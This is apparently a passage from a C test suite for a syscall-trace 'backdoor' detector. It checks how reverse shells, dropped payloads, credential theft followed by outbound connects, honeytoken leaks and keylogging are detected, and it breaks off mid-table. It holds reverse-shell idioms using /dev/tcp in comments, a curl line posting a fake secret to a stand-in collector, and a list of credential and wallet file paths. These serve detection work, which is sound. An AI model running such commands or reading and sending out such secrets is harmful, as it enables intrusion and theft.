	fork_child(h, 200, 202, 1.3);
	EXEC(h, 202, 1.4, "/usr/bin/cat", sock, sock, "cat", "/etc/hostname");
	cr_assert_eq(harness_count(h, "backdoor.reverse_shell"), 1);
	harness_free(h);

	/* an inetd-style server hands an accepted client to a handler */
	h = harness_new("backdoor", NULL, NULL);
	struct da_event acc = ev_make(DA_EV_NET_ACCEPT, 300, 1.0);
	acc.syscall = "accept";
	acc.fd = 3;
	acc.target_fd = 4;
	acc.fd_desc = "socket:inet/stream@0.0.0.0:7000";
	acc.family = AF_INET;
	acc.addr = "127.0.0.1:40000";
	acc.result = 4;
	acc.text = "accept(3, {sa_family=AF_INET, sin_port=htons(40000)}, [16]) = 4";
	publish(h, &acc);
	/* the server is also a client of another local service */
	connect_to(h, 300, 1.05, 5, "127.0.0.1:6379", 6379, 0);
	fork_child(h, 300, 301, 1.1);
	dup_fd(h, 301, 1.15, 4, 0);
	dup_fd(h, 301, 1.15, 4, 1);
	EXEC(h, 301, 1.2, "/home/auditor/app/handler", "socket:inet/stream->127.0.0.1:40000",
	     "socket:inet/stream->127.0.0.1:40000", "./handler");
	/* a log daemon's unix socket on stdout */
	EXEC(h, 302, 1.3, "/usr/bin/logger", "/dev/null", "socket:unix/stream->/dev/log", "logger");
	/* a socket on stdio the run never connected itself */
	EXEC(h, 303, 1.4, "/usr/bin/cat", "socket:inet/stream->10.1.1.1:80",
	     "socket:inet/stream->10.1.1.1:80", "cat");
	harness_finish(h);
	if (harness_count(h, NULL))
		harness_dump(h);
	cr_assert_eq(harness_count(h, NULL), 0);
	harness_free(h);

	/* a loopback connection to an allow_connect entry is the assignment's server */
	h = harness_new("backdoor", "allow_connect: [\"127.0.0.1:5555\"]\n", NULL);
	connect_to(h, 200, 1.0, 3, "127.0.0.1:5555", 5555, 0);
	fork_child(h, 200, 201, 1.1);
	EXEC(h, 201, 1.2, "/usr/bin/cat", "/dev/null", "socket:inet/stream->127.0.0.1:5555", "cat",
	     "msg.txt");
	harness_finish(h);
	cr_assert_eq(harness_count(h, NULL), 0);
	harness_free(h);
}

/* ---- code run through an interpreter or the loader ------------------------------------------ */

Test(backdoor, dropped_script_run_by_an_interpreter_is_a_dropped_payload)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	EXEC(h, 100, 0.0, "/usr/bin/python3", "/dev/null", "pipe", "python3", "main.py");
	open_file(h, 100, 1.0, "/tmp/.upd.py", WRITE_NEW, 0);
	open_file(h, 100, 1.1, "/tmp/.upd.sh", WRITE_NEW, 0);
	open_file(h, 100, 1.2, "/dev/shm/u.pl", WRITE_NEW, 0);
	open_file(h, 100, 1.3, "/tmp/.m.js", WRITE_NEW, 0);
	fork_child(h, 100, 101, 2.0);
	/* the PATH search miss before the real interpreter adds nothing */
	static const char *const py_argv[] = {"python3", "-u", "/tmp/.upd.py"};
	exec_argv(h, 101, 2.05, "/usr/local/bin/python3", 3, py_argv, "pipe", "pipe", NULL, ENOENT);
	cr_assert_eq(harness_count(h, "backdoor.dropped_payload"), 0);
	exec_argv(h, 101, 2.1, "/usr/bin/python3", 3, py_argv, "pipe", "pipe", NULL, 0);
	const struct harness_finding *f = harness_get(h, "backdoor.dropped_payload");
	cr_assert_not_null(f);
	cr_assert_eq(f->severity, DA_SEV_CRITICAL);
	cr_assert(strstr(f->message, "/tmp/.upd.py") && strstr(f->message, "python3"), "%s",
		  f->message);
	cr_assert_eq(f->n_evidence, 2);
	cr_assert(strstr(f->evidence[0], "openat") && strstr(f->evidence[1], "execve"));
	EXEC(h, 102, 2.2, "/usr/bin/sh", "pipe", "pipe", "sh", "-e", "-o", "errexit", "/tmp/.upd.sh");
	EXEC(h, 103, 2.3, "/usr/bin/perl", "pipe", "pipe", "perl", "-w", "/dev/shm/u.pl");
	EXEC(h, 104, 2.4, "/usr/bin/node", "pipe", "pipe", "node", "--require", "x", "/tmp/.m.js");
	cr_assert_eq(harness_count(h, "backdoor.dropped_payload"), 4);
	/* code given on the command line: the file is an argument of that code */
	EXEC(h, 105, 2.5, "/usr/bin/python3", "pipe", "pipe", "python3", "-c", "print(1)",
	     "/tmp/.upd.py");
	EXEC(h, 106, 2.6, "/usr/bin/bash", "pipe", "pipe", "bash", "-c", "true", "/tmp/.upd.sh");
	cr_assert_eq(harness_count(h, "backdoor.dropped_payload"), 4);
	/* relative to the working directory */
	struct da_event cd = ev_make(DA_EV_FILE_CHDIR, 107, 2.7);
	cd.syscall = "chdir";
	cd.path = "/tmp";
	cd.text = "chdir(\"/tmp\") = 0";
	publish(h, &cd);
	open_file(h, 107, 2.75, "/tmp/.next.rb", WRITE_NEW, 0);
	EXEC(h, 107, 2.8, "/usr/bin/ruby", "pipe", "pipe", "ruby", "./sub/../.next.rb");
	cr_assert_not_null(harness_find(h, "backdoor.dropped_payload", "/tmp/.next.rb"));
	harness_free(h);

	/* a script written by target.setup, and the submission's own scripts */
	h = harness_new("backdoor", NULL, NULL);
	struct da_event gen = ev_make(DA_EV_FILE_OPEN, 90, 0.1);
	gen.syscall = "openat";
	gen.path = "/tmp/gen-config.sh";
	gen.access = WRITE_NEW;
	gen.phase = "setup";
	gen.result = 3;
	gen.fd = 3;
	gen.text = "openat(AT_FDCWD, \"/tmp/gen-config.sh\", O_WRONLY|O_CREAT|O_TRUNC) = 3";
	publish(h, &gen);
	EXEC(h, 100, 1.0, "/usr/bin/sh", "pipe", "pipe", "sh", "/tmp/gen-config.sh");
	EXEC(h, 101, 1.1, "/usr/bin/python3", "pipe", "pipe", "python3", "server.py");
	EXEC(h, 102, 1.2, "/usr/bin/bash", "pipe", "pipe", "bash", "run.sh");
	harness_finish(h);
	cr_assert_eq(harness_count(h, NULL), 0);
	harness_free(h);
}

Test(backdoor, program_run_through_the_dynamic_loader)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	EXEC(h, 100, 0.0, "/usr/bin/python3", "/dev/null", "pipe", "python3", "main.py");
	open_file(h, 100, 1.0, "/tmp/.cache-x", WRITE_NEW, 0);
	EXEC(h, 101, 1.1, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "pipe", "pipe",
	     "/lib64/ld-linux-x86-64.so.2", "/tmp/.cache-x");
	cr_assert_eq(harness_max_severity(h, "backdoor.dropped_payload"), DA_SEV_CRITICAL);
	/* an ordinary name in the workdir, written by the script, not a compiler */
	open_file(h, 100, 2.0, "/home/auditor/app/build.dat", WRITE_NEW, 0);
	EXEC(h, 102, 2.1, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "pipe", "pipe",
	     "/lib64/ld-linux-x86-64.so.2", "--argv0", "x", "./build.dat", "-a");
	const struct harness_finding *f =
		harness_find(h, "backdoor.dropped_payload", "/home/auditor/app/build.dat");
	cr_assert_not_null(f);
	cr_assert_eq(f->severity, DA_SEV_HIGH);
	cr_assert(strstr(f->message, "python3"), "%s", f->message);
	/* a program in /tmp the run was not seen writing */
	EXEC(h, 103, 2.2, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "pipe", "pipe",
	     "ld.so", "/tmp/runme");
	cr_assert_not_null(harness_find(h, "backdoor.dropped_payload", "/tmp/runme"));
	cr_assert_eq(harness_count(h, "backdoor.dropped_payload"), 3);
	harness_free(h);

	/* a build in the run: the linker writes ./app, the loader runs it */
	h = harness_new("backdoor", NULL, NULL);
	EXEC(h, 93, 0.3, "/usr/bin/ld", "/dev/null", "pipe", "ld", "-o", "app");
	open_file(h, 93, 0.4, "/home/auditor/app/app", WRITE_NEW, 0);
	EXEC(h, 94, 0.5, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "pipe", "pipe",
	     "ld.so", "./app");
	EXEC(h, 95, 0.6, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "pipe", "pipe",
	     "ld.so", "--list", "/usr/bin/ls");
	harness_finish(h);
	cr_assert_eq(harness_count(h, NULL), 0);
	harness_free(h);
}

Test(backdoor, library_an_interpreter_wrote_in_the_workdir_is_a_dropped_payload)
{
	/* open("libfastmath.so", "wb").write(base64.b64decode(BLOB)); ctypes.CDLL(...) */
	struct harness *h = harness_new("backdoor", NULL, NULL);
	EXEC(h, 100, 0.0, "/usr/bin/python3", "/dev/null", "pipe", "python3", "main.py");
	open_file(h, 100, 1.0, "/home/auditor/app/libfastmath.so", WRITE_NEW, 0);
	mmap_exec(h, 100, 1.1, "/home/auditor/app/libfastmath.so");
	const struct harness_finding *f = harness_get(h, "backdoor.dropped_payload");
	cr_assert_not_null(f);
	cr_assert_eq(f->severity, DA_SEV_HIGH);
	cr_assert(strstr(f->message, "libfastmath.so") && strstr(f->message, "python3"), "%s",
		  f->message);
	cr_assert_eq(f->n_evidence, 2);
	harness_free(h);

	/* a C build (setup or run) producing the library, and pip unpacking a wheel */
	h = harness_new("backdoor", NULL, NULL);
	EXEC(h, 90, 0.0, "/usr/bin/make", "/dev/null", "pipe", "make");
	struct da_event so = ev_make(DA_EV_FILE_OPEN, 91, 0.1);
	so.syscall = "openat";
	so.path = "/home/auditor/app/libchat.so";
	so.access = WRITE_NEW;
	so.phase = "setup";
	so.result = 3;
	so.fd = 3;
	so.text = "openat(AT_FDCWD, \"libchat.so\", O_RDWR|O_CREAT|O_TRUNC, 0777) = 3";
	publish(h, &so);
	EXEC(h, 92, 0.5, "/usr/bin/ld", "/dev/null", "pipe", "ld", "-shared", "-o", "libfast.so");
	open_file(h, 92, 0.6, "/home/auditor/app/libfast.so", WRITE_NEW, 0);
	fork_child(h, 92, 93, 0.65); /* a linker thread-pool child writes for it */
	open_file(h, 93, 0.7, "/home/auditor/app/libfast2.so", WRITE_NEW, 0);
	EXEC(h, 100, 1.0, "/usr/bin/python3", "/dev/null", "pipe", "python3", "main.py");
	open_file(h, 100, 1.1, "/home/auditor/app/lib/site-packages/numpy/_core.cpython-311.so",
		  WRITE_NEW, 0);
	mmap_exec(h, 100, 2.0, "/home/auditor/app/libchat.so");
	mmap_exec(h, 100, 2.1, "/home/auditor/app/libfast.so");
	mmap_exec(h, 100, 2.2, "/home/auditor/app/libfast2.so");
	mmap_exec(h, 100, 2.3, "/home/auditor/app/lib/site-packages/numpy/_core.cpython-311.so");
	harness_finish(h);
	if (harness_count(h, NULL))
		harness_dump(h);
	cr_assert_eq(harness_count(h, NULL), 0);
	harness_free(h);
}

/* ---- more secrets ---------------------------------------------------------------------------- */

Test(backdoor, developer_and_system_credentials_are_secrets)
{
	static const char *const paths[] = {
		"/home/auditor/.python_history", "/home/auditor/.mysql_history",
		"/home/auditor/.psql_history", "/home/auditor/.config/gh/hosts.yml",
		"/home/auditor/.config/rclone/rclone.conf",
		"/home/auditor/.terraform.d/credentials.tfrc.json", "/home/auditor/.m2/settings.xml",
		"/home/auditor/.gradle/gradle.properties", "/home/auditor/.cargo/credentials",
		"/home/auditor/.cargo/credentials.toml", "/home/auditor/.config/hub",
		"/home/auditor/.s3cfg", "/home/auditor/.boto", "/home/auditor/.bitcoin/wallet.dat",
		"/home/auditor/.electrum/wallets/default_wallet", "/etc/wireguard/wg0.conf",
		"/etc/NetworkManager/system-connections/home.nmconnection",
		"/var/lib/postgresql/.pgpass", "/dev/mem", "/proc/kcore",
		/* already listed */
		"/home/auditor/.local/share/keyrings/login.keyring"};
	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
		struct harness *h = harness_new("backdoor", NULL, NULL);
		open_file(h, 100, 1.0, paths[i], DA_ACC_READ, 0);
		connect_to(h, 100, 1.5, 4, "203.0.113.9:443", 443, ENETUNREACH);
		cr_assert_eq(harness_count(h, "backdoor.exfiltration"), 1, "%s", paths[i]);
		harness_free(h);
	}
	/* look-alikes and the program's own files are not */
	static const char *const not_secrets[] = {"/home/auditor/.botox", "/home/auditor/.config/hubris",
						  "/dev/memory", "/home/auditor/app/.s3cfg"};
	for (size_t i = 0; i < sizeof(not_secrets) / sizeof(not_secrets[0]); i++) {
		struct harness *h = harness_new("backdoor", NULL, NULL);
		open_file(h, 100, 1.0, not_secrets[i], DA_ACC_READ, 0);
		connect_to(h, 100, 1.5, 4, "203.0.113.9:443", 443, ENETUNREACH);
		cr_assert_eq(harness_count(h, "backdoor.exfiltration"), 0, "%s", not_secrets[i]);
		harness_free(h);
	}
}

/* ---- configuration ---------------------------------------------------------------------- */

Test(backdoor, unknown_option_is_rejected)
{
	int rc = 0;
	struct harness *h = harness_new("backdoor", "allow_listen: [\"127.0.0.1:1\"]\n", &rc);
	cr_assert_eq(rc, -EINVAL);
	cr_assert(strstr(harness_error(h), "allow_listen"), "%s", harness_error(h));
	harness_free(h);
}

Test(backdoor, empty_allow_connect_entry_is_rejected)
{
	int rc = 0;
	struct harness *h = harness_new("backdoor", "allow_connect: [\"\"]\n", &rc);
	cr_assert_eq(rc, -EINVAL);
	cr_assert(strstr(harness_error(h), "allow_connect"), "%s", harness_error(h));
	harness_free(h);
}

/* Every kind with empty members, then with hostile ones: no crash, no error. */
Test(backdoor, empty_and_hostile_events_are_survived)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	harness_publish_hostile_events(h);
	harness_free(h);
}

/* An interpreter importing a module it wrote to /tmp runs dropped code
 * without any exec; its own submission's modules are not that. */
Test(backdoor, interpreter_loading_code_it_dropped)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	exec_prog(h, 100, 0.1, "/usr/bin/python3", "/dev/null", "pipe", NULL);
	open_file(h, 100, 0.5, "/tmp/helper_mod.py", DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC, 0);
	open_file(h, 100, 0.6, "/home/auditor/app/utils.py", DA_ACC_READ, 0);
	cr_assert_eq(harness_count(h, "backdoor.dropped_payload"), 0);
	open_file(h, 100, 0.7, "/tmp/helper_mod.py", DA_ACC_READ, 0);
	const struct harness_finding *f = harness_get(h, "backdoor.dropped_payload");
	cr_assert_not_null(f);
	cr_assert_eq(f->severity, DA_SEV_HIGH);
	cr_assert(strstr(f->message, "/tmp/helper_mod.py") && strstr(f->message, "python3"), "%s",
		  f->message);
	harness_free(h);

	/* a data file it wrote and reads back is nothing */
	h = harness_new("backdoor", NULL, NULL);
	exec_prog(h, 100, 0.1, "/usr/bin/python3", "/dev/null", "pipe", NULL);
	open_file(h, 100, 0.5, "/tmp/cache.json", DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC, 0);
	open_file(h, 100, 0.7, "/tmp/cache.json", DA_ACC_READ, 0);
	cr_assert_eq(harness_count(h, NULL), 0);
	harness_free(h);
}

/* Any runtime reading back compiled code it dropped in /tmp (the JVM is no
 * script runner): a class or a jar is high; its own classes in the
 * workdir, a build cache under HOME, and a class file it never reads are
 * not. */
Test(backdoor, runtime_loading_compiled_code_it_dropped)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	exec_prog(h, 100, 0.1, "/usr/bin/java", "/dev/null", "pipe", NULL);
	open_file(h, 100, 0.2, "/tmp/plug123/Payload.class", DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC, 0);
	open_file(h, 100, 0.3, "/home/auditor/app/Main.class", DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC, 0);
	open_file(h, 100, 0.4, "/home/auditor/.m2/repository/a/a.jar", DA_ACC_WRITE | DA_ACC_CREATE, 0);
	open_file(h, 100, 0.5, "/tmp/unused.class", DA_ACC_WRITE | DA_ACC_CREATE, 0);
	open_file(h, 100, 0.6, "/home/auditor/app/Main.class", DA_ACC_READ, 0);
	open_file(h, 100, 0.6, "/home/auditor/.m2/repository/a/a.jar", DA_ACC_READ, 0);
	cr_assert_eq(harness_count(h, "backdoor.dropped_payload"), 0);
	open_file(h, 100, 0.7, "/tmp/plug123/Payload.class", DA_ACC_READ, 0);
	const struct harness_finding *f = harness_get(h, "backdoor.dropped_payload");
	cr_assert_not_null(f);
	cr_assert_eq(f->severity, DA_SEV_HIGH);
	cr_assert(strstr(f->message, "java loads compiled code") && strstr(f->message, "/tmp/plug123/Payload.class"),
		  "%s", f->message);
	cr_assert_eq(harness_count(h, "backdoor.dropped_payload"), 1);
	harness_free(h);
}

/* Anonymous memory made executable: judged only when the tracer found its
 * bytes in what was received (arg[2] 1) or in a temp file read back
 * (arg[2] 2, path2); a JIT's mprotect carries neither. */
Test(backdoor, anonymous_code_from_a_socket_or_a_dropped_file)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	exec_prog(h, 100, 0.1, "/usr/bin/node", "/dev/null", "pipe", NULL);
	for (int i = 0; i < 20; i++) {
		struct da_event ev = ev_make(DA_EV_FILE_MMAP_EXEC, 100, 0.2 + i * 0.01);
		ev.syscall = "mprotect";
		ev.detail = "mprotect";
		ev.flags = 5;
		ev.text = "mprotect(0x7f0000000000, 4096, PROT_READ|PROT_EXEC) = ?";
		harness_publish(h, &ev);
	}
	cr_assert_eq(harness_count(h, NULL), 0);
	exec_prog(h, 200, 0.5, "/home/auditor/app/stager", "/dev/null", "pipe", NULL);
	struct da_event ev = ev_make(DA_EV_FILE_MMAP_EXEC, 200, 0.6);
	ev.syscall = "mprotect";
	ev.detail = "mprotect";
	ev.arg[2] = 1;
	ev.text = "mprotect(0x7f0000000000, 4096, PROT_READ|PROT_EXEC) = ?";
	harness_publish(h, &ev);
	const struct harness_finding *f = harness_get(h, "backdoor.dropped_payload");
	cr_assert_not_null(f);
	cr_assert_eq(f->severity, DA_SEV_CRITICAL);
	cr_assert(strstr(f->message, "stager runs code it received from a network connection"), "%s", f->message);
	harness_free(h);

	h = harness_new("backdoor", NULL, NULL);
	exec_prog(h, 200, 0.5, "/home/auditor/app/stager", "/dev/null", "pipe", NULL);
	ev.arg[2] = 2;
	ev.path2 = "/tmp/.cache.bin";
	harness_publish(h, &ev);
	f = harness_get(h, "backdoor.dropped_payload");
	cr_assert_not_null(f);
	cr_assert_eq(f->severity, DA_SEV_CRITICAL);
	cr_assert(strstr(f->message, "runs code read back from /tmp/.cache.bin, a file it wrote"), "%s", f->message);
	harness_free(h);
}

/* `bash -i >& /dev/tcp/H/P 0>&1` with nobody listening: the shell's own
 * connect is the attempt, even though no exec follows. */
Test(backdoor, a_shell_connecting_itself_is_a_reverse_shell_attempt)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	exec_prog(h, 300, 0.1, "/usr/bin/bash", "pipe", "pipe", NULL);
	fork_child(h, 300, 301, 0.2);
	connect_to(h, 301, 0.3, 3, "127.0.0.1:4444", 4444, ECONNREFUSED);
	harness_finish(h);
	const struct harness_finding *f = harness_get(h, "backdoor.reverse_shell");
	cr_assert_not_null(f, "a shell's own connect (the /dev/tcp idiom) was not reported");
	cr_assert_eq(f->severity, DA_SEV_CRITICAL);
	cr_assert(strstr(f->message, "attempted") && strstr(f->message, "127.0.0.1:4444") &&
		  strstr(f->message, "ECONNREFUSED"), "%s", f->message);
	harness_free(h);
}

Test(backdoor, a_program_connecting_is_not_the_shell_idiom)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	exec_prog(h, 300, 0.1, "/usr/bin/bash", "pipe", "pipe", NULL);
	fork_child(h, 300, 301, 0.2);
	exec_prog(h, 301, 0.25, "/usr/bin/python3", "pipe", "pipe", NULL);
	connect_to(h, 301, 0.3, 3, "127.0.0.1:4444", 4444, ECONNREFUSED);
	harness_finish(h);
	cr_assert_null(harness_get(h, "backdoor.reverse_shell"));
	harness_free(h);
}

Test(backdoor, a_shell_connecting_to_an_allowed_endpoint_is_not_reported)
{
	struct harness *h = harness_new("backdoor", "allow_connect: ['127.0.0.1:4444']", NULL);
	exec_prog(h, 300, 0.1, "/bin/sh", "pipe", "pipe", NULL);
	connect_to(h, 300, 0.3, 3, "127.0.0.1:4444", 4444, 0);
	harness_finish(h);
	cr_assert_null(harness_get(h, "backdoor.reverse_shell"));
	harness_free(h);
}

Test(backdoor, a_shell_connection_that_reached_its_peer_is_reported_once)
{
	/* exec 5<>/dev/tcp/H/P; while read c <&5; do eval "$c"; done: builtins only */
	struct harness *h = harness_new("backdoor", NULL, NULL);
	exec_prog(h, 300, 0.1, "/usr/bin/bash", "pipe", "pipe", NULL);
	connect_to(h, 300, 0.3, 5, "127.0.0.1:4444", 4444, 0);
	harness_finish(h);
	cr_assert_eq(harness_count(h, "backdoor.reverse_shell"), 1);
	const struct harness_finding *f = harness_get(h, "backdoor.reverse_shell");
	cr_assert(strstr(f->message, "reached its peer"), "%s", f->message);
	harness_free(h);
}

/* ---- honeytokens ------------------------------------------------------------ */

static void plant(struct harness *h, const char *name, const char *value)
{
	struct da_event ev = ev_make(DA_EV_SYSCALL_OTHER, 0, 0);
	ev.syscall = "honeytoken";
	ev.detail = name;
	ev.text = value;
	publish(h, &ev);
}

#define SECRET "Qx7pVb2LmN9aZr4TkW1sYc8HdF3gJ6uE0oIiPl5R"

Test(backdoor, honeytoken_in_argv_is_critical_and_names_the_token)
{
	struct harness *h = harness_new_live("backdoor", NULL);
	plant(h, "AWS_SECRET_ACCESS_KEY", SECRET);
	static const char *argv[] = {"curl", "-d", "k=" SECRET, "http://collector.invalid/"};
	struct da_event ev = ev_make(DA_EV_PROC_EXEC, 300, 1.0);
	ev.syscall = "execve";
	ev.path = "/usr/bin/curl";
	ev.argv = argv;
	ev.argc = 4;
	ev.text = "execve(\"/usr/bin/curl\", [...]) = 0";
	publish(h, &ev);
	publish(h, &ev); /* once per token and destination */
	harness_finish(h);
	const struct harness_finding *f = harness_get(h, "backdoor.honeytoken");
	cr_assert_not_null(f);
	cr_assert_eq(f->severity, DA_SEV_CRITICAL);
	cr_assert(strstr(f->message, "AWS_SECRET_ACCESS_KEY") && strstr(f->message, "curl"), "%s",
		  f->message);
	cr_assert_eq(harness_count(h, "backdoor.honeytoken"), 1);
	harness_free(h);
}

Test(backdoor, honeytoken_in_send_payload_names_the_destination)
{
	struct harness *h = harness_new_live("backdoor", NULL);
	plant(h, "GITHUB_TOKEN", "ghp_abcdefghijklmnopqrstuvwxyz0123456789");
	struct da_event ev = ev_make(DA_EV_NET_SEND, 300, 1.0);
	ev.syscall = "sendto";
	ev.fd = 4;
	ev.addr = "127.0.0.1:9000";
	ev.detail = "POST / HTTP/1.0\\x0d\\x0a\\x0d\\x0atoken=ghp_abcdefghijklmnopqrstuvwxyz0123456789";
	ev.text = "sendto(4, 0x1000, 60, 0, NULL, 0) = 60";
	publish(h, &ev);
	harness_finish(h);
	const struct harness_finding *f = harness_get(h, "backdoor.honeytoken");
	cr_assert_not_null(f);
	cr_assert(strstr(f->message, "GITHUB_TOKEN") && strstr(f->message, "127.0.0.1:9000"), "%s",
		  f->message);
	cr_assert_eq(f->n_evidence, 2); /* the send and the data */
	harness_free(h);
}

Test(backdoor, honeytoken_not_sent_is_silent)
{
	struct harness *h = harness_new_live("backdoor", NULL);
	plant(h, "AWS_SECRET_ACCESS_KEY", SECRET);
	send_to(h, 300, 1.0, "127.0.0.1:9000");
	static const char *argv[] = {"sh", "-c", "echo Qx7pVb2LmN9aZr4"}; /* a prefix only */
	struct da_event ev = ev_make(DA_EV_PROC_EXEC, 300, 1.0);
	ev.syscall = "execve";
	ev.path = "/bin/sh";
	ev.argv = argv;
	ev.argc = 3;
	publish(h, &ev);
	harness_finish(h);
	cr_assert_eq(harness_count(h, "backdoor.honeytoken"), 0);
	harness_free(h);
}

/* A reverse shell whose peer did not answer (issue 13): the connect out
 * failed, the program put a socketpair on an interactive shell instead.
 * Without the failed outbound attempt, or with a -c string (node's
 * child_process on socketpairs), or a loopback peer, it is no shell hand-off. */
Test(backdoor, interactive_shell_on_a_local_socket_after_a_failed_connect)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	connect_to(h, 100, 0.1, 3, "198.51.100.7:4444", 4444, ENETUNREACH);
	fork_child(h, 100, 101, 0.2);
	exec_prog(h, 101, 0.3, "/bin/sh", "socket:unix/stream", "socket:unix/stream", NULL);
	harness_finish(h);
	const struct harness_finding *f = harness_get(h, "backdoor.reverse_shell");
	cr_assert_not_null(f);
	cr_expect_eq(f->severity, DA_SEV_HIGH);
	cr_expect(strstr(f->message, "198.51.100.7:4444") && strstr(f->message, "socket:unix"), "%s",
		  f->message);
	harness_free(h);

	/* no outbound attempt: a shell on a socketpair alone */
	h = harness_new("backdoor", NULL, NULL);
	fork_child(h, 100, 101, 0.2);
	exec_prog(h, 101, 0.3, "/bin/sh", "socket:unix/stream", "socket:unix/stream", NULL);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "backdoor.reverse_shell"), 0);
	harness_free(h);

	/* a loopback peer is not outbound; an allowed one is expected */
	h = harness_new("backdoor", "allow_connect: [\"203.0.113.9:443\"]", NULL);
	connect_to(h, 100, 0.1, 3, "127.0.0.1:4444", 4444, ECONNREFUSED);
	connect_to(h, 100, 0.15, 4, "203.0.113.9:443", 443, ENETUNREACH);
	fork_child(h, 100, 101, 0.2);
	exec_prog(h, 101, 0.3, "/bin/sh", "socket:unix/stream", "socket:unix/stream", NULL);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "backdoor.reverse_shell"), 0);
	harness_free(h);

	/* sh -c on a socketpair after a failed connect: not interactive */
	h = harness_new("backdoor", NULL, NULL);
	connect_to(h, 100, 0.1, 3, "198.51.100.7:443", 443, ENETUNREACH);
	fork_child(h, 100, 101, 0.2);
	static const char *argv_c[] = {"/bin/sh", "-c", "echo hi", NULL};
	struct da_event ev = ev_make(DA_EV_PROC_EXEC, 101, 0.3);
	ev.syscall = "execve";
	ev.path = "/bin/sh";
	ev.argv = argv_c;
	ev.argc = 3;
	ev.stdio[0] = ev.stdio[1] = ev.stdio[2] = "socket:unix/stream";
	ev.text = "execve(\"/bin/sh\", [\"/bin/sh\", \"-c\", \"echo hi\"], ...) = 0";
	publish(h, &ev);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "backdoor.reverse_shell"), 0);
	harness_free(h);
}

/* Keylogging: keyboards, input devices and consoles, opened or refused. */
Test(backdoor, input_devices_and_consoles_are_keylogging)
{
	static const struct {
		const char *path;
		int severity; /* -1: no finding */
	} cases[] = {
		{"/dev/input/event3", DA_SEV_HIGH},
		{"/dev/input/by-path/platform-i8042-serio-0-event-kbd", DA_SEV_HIGH},
		{"/dev/input/by-id/usb-Logitech_USB_Keyboard-event-kbd", DA_SEV_HIGH},
		{"/dev/uinput", DA_SEV_HIGH},
		{"/dev/hidraw0", DA_SEV_HIGH},
		{"/dev/vcsa1", DA_SEV_HIGH},
		{"/dev/input/mice", DA_SEV_MEDIUM},
		{"/dev/console", DA_SEV_MEDIUM},
		{"/dev/tty2", DA_SEV_MEDIUM},
		{"/dev/tty", -1},
		{"/dev/pts/0", -1},
		{"/dev/urandom", -1},
		{"/home/auditor/app/input/event1", -1},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		for (int err = 0; err <= ENOENT; err += ENOENT) {
			struct harness *h = harness_new("backdoor", NULL, NULL);
			open_file(h, 100, 0.1, cases[i].path, DA_ACC_READ, err);
			harness_finish(h);
			if (cases[i].severity < 0) {
				cr_expect_eq(harness_count(h, "backdoor.keylogging"), 0, "%s", cases[i].path);
			} else {
				const struct harness_finding *f = harness_get(h, "backdoor.keylogging");
				cr_expect_not_null(f, "%s", cases[i].path);
				if (f)
					cr_expect_eq(f->severity, cases[i].severity, "%s", cases[i].path);
			}
			harness_free(h);
		}
	}
}

/* Terminal ioctls (keylog.c): injection and console capture are judged
 * whatever the terminal and the result; raw mode only on a terminal that
 * is not the process's own. */
static void tty_ioctl(struct harness *h, int pid, double t, int fd, const char *term,
		      const char *request, int64_t value, int64_t raw_bits, int err)
{
	struct da_event ev = ev_make(DA_EV_SYSCALL_OTHER, pid, t);
	ev.syscall = "ioctl";
	ev.detail = request;
	ev.fd = fd;
	ev.fd_desc = term && term[0] == '/' && strncmp(term, "/dev/pts/", 9) ? term : "tty";
	ev.path = term;
	ev.arg[1] = value;
	ev.arg[2] = raw_bits;
	ev.text = "ioctl(...)";
	if (err)
		fail_with(&ev, err, "ENOTTY");
	publish(h, &ev);
}

Test(backdoor, terminal_ioctls_are_keylogging)
{
	static const struct {
		const char *stdin_desc; /* fd 0 at the exec */
		int fd;
		const char *term;
		const char *request;
		int64_t value, raw;
		bool made_pty;
		int severity; /* -1: no finding */
	} cases[] = {
		{"/dev/null", 0, "/dev/null", "TIOCSTI", 'x', 0, false, DA_SEV_HIGH},
		{"tty", 0, "/dev/pts/0", "TIOCSTI", 'x', 0, false, DA_SEV_HIGH},
		{"tty", 0, "/dev/pts/0", "TIOCLINUX", 3, 0, false, DA_SEV_HIGH},
		{"tty", 0, "/dev/pts/0", "TIOCLINUX", 6, 0, false, DA_SEV_MEDIUM},
		{"/dev/null", 0, "/dev/null", "KDSKBMODE", 0, 0, false, DA_SEV_HIGH},
		{"/dev/null", 0, "/dev/null", "KDSKBMODE", 4, 0, false, DA_SEV_MEDIUM},
		{"/dev/null", 3, "/dev/pts/2", "TIOCCONS", -1, 0, false, DA_SEV_MEDIUM},
		{"/dev/null", 3, "/dev/console", "KDGKBMODE", -1, 0, false, DA_SEV_LOW},
		{"tty", 0, "/dev/pts/0", "KDGKBMODE", -1, 0, false, -1},
		{"/dev/null", 3, "/dev/console", "TCSETS", 0, 3, false, DA_SEV_HIGH},
		{"/dev/null", 3, "/dev/tty2", "TCSETSW", 0, 1, false, DA_SEV_HIGH},
		{"/dev/null", 3, "/dev/pts/4", "TCSETS", 0, 3, false, DA_SEV_MEDIUM},
		{"pipe", 0, "/dev/pts/4", "TCSETS", 0, 3, false, DA_SEV_MEDIUM}, /* a pipe given, a tty moved on it */
		{"tty", 0, "/dev/pts/0", "TCSETS", 0, 3, false, -1},      /* its own stdin: an editor */
